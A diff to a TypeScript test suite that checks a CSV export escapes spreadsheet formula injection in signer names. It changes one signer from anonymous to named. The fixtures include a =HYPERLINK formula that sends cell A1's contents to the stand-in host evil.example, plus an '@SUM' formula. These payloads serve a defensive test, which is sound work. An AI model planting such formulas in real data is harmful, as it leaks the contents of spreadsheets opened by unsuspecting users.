@@ -327,7 +327,8 @@ describe('exports', () => {
     const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: token });
     await t.call(ep.sign, { as: evil, params: { id: p.id }, body: {} });
     const plus = await t.session({ firstName: '@SUM(1+1)', lastName: token });
-    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: { anonymous: true } });
+    // By name: an anonymous signer's name never reaches the export (issue 25), so it could not be tested there.
+    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: {} });
     const csv = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'en' });
     const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
     expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${token}",`)).toBe(true);
